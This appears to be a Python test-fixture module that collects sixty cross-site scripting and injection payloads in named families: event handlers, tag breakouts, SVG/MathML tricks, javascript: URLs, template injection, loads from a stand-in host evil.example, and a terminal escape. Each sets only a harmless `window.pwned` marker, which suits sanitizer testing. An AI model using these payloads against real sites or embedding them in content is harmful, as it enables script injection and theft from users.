"""Sixty texts that would like to run as a script, load something, or leave; each sets `window.pwned` where it can.

Written from the families that browsers, template engines, Markdown, terminals and plotting libraries have been
caught by: events, schemes, raw text elements, namespaces (SVG, MathML), templates, prototypes, links, control
sequences, bidirectional text.
"""

ACT = "window.pwned=1"
_EVIL = "https://evil.example"

EVENTS = [
    f"<img src=x onerror={ACT}>",
    f"<IMG SRC=x OnErRoR={ACT}>",
    f"<img src=x onerror\n=\n{ACT}>",
    f"<img/src=x/onerror={ACT}//",
    f"<details open ontoggle={ACT}>",
    f"<body onload={ACT}>",
    f"<input autofocus onfocus={ACT}>",
    f"<select autofocus onfocus={ACT}></select>",
    f"<video><source onerror={ACT}></video>",
    f"<audio src=x onerror={ACT}></audio>",
    f"<marquee onstart={ACT}>x</marquee>",
    f"<div style=animation-name:x onanimationstart={ACT}></div><style>@keyframes x{{}}</style>",
    f"<p onpointerover={ACT} style=position:fixed;inset:0>x</p>",
    "<img src=x onerror=&#119;indow.pwned=1>",
]
ELEMENTS = [
    f"<script>{ACT}</script>",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f'"><script>{ACT}</script>',
    f"'><script>{ACT}</script>",
    f"</title><script>{ACT}</script>",
    f"</textarea><script>{ACT}</script>",
    f"</style><script>{ACT}</script>",
    f"--><script>{ACT}</script><!--",
    f"]]><script>{ACT}</script>",
    f"<noscript><p title='</noscript><script>{ACT}</script>'>",
    f"<template><script>{ACT}</script></template>",
    f"<iframe srcdoc='<script>parent.{ACT}</script>'></iframe>",
    f'<iframe src="javascript:parent.{ACT}"></iframe>',
    f'<object data="data:text/html,<script>parent.{ACT}</script>"></object>',
    f'<embed src="javascript:{ACT}">',
    f"<isindex type=image src=x onerror={ACT}>",
]
NAMESPACES = [
    f"<svg/onload={ACT}>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s></svg>",
    f'<svg><a xlink:href="javascript:{ACT}"><text y=20>x</text></a></svg>',
    f"<svg><foreignObject><img src=x onerror={ACT}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ACT}></style></mglyph></table></mtext></math>",
    f'<math href="javascript:{ACT}">x</math>',
]
SCHEMES = [
    f"javascript:{ACT}",
    f"JaVaScRiPt:{ACT}",
    f"java\tscript:{ACT}",
    f"<a href=javascript:{ACT}>x</a>",
    f"[x](javascript:{ACT})",
    f"[x]( javascript:{ACT} 'title')",
    f"<javascript:{ACT}>",
    f"data:text/html,<script>{ACT}</script>",
]
CODE = [
    f"'-({ACT})-'",
    f"\\'-({ACT})//",
    f"{{{{constructor.constructor('{ACT}')()}}}}",
    f"${{{ACT}}}",
    f"<%= {ACT} %>",
    "__proto__",
]
LOADS = [
    f"<link rel=stylesheet href={_EVIL}/x.css>",
    f"<img src={_EVIL}/x.png>",
    f"<base href={_EVIL}/>",
    f"<form action={_EVIL}><input autofocus></form>",
    f'<meta http-equiv=refresh content="0;url={_EVIL}">',
    f"<style>@import '{_EVIL}/x.css';*{{background:url({_EVIL}/x.png)}}</style>",
    f"![x]({_EVIL}/x.png)",
    f"\x1b]8;;javascript:{ACT}\x07x\x1b]8;;\x07",
]
LOOKS = [
    "\u202ereversed",
]

PAYLOADS = [*EVENTS, *ELEMENTS, *NAMESPACES, *SCHEMES, *CODE, *LOADS, *LOOKS]
assert len(PAYLOADS) == len(set(PAYLOADS)) == 60
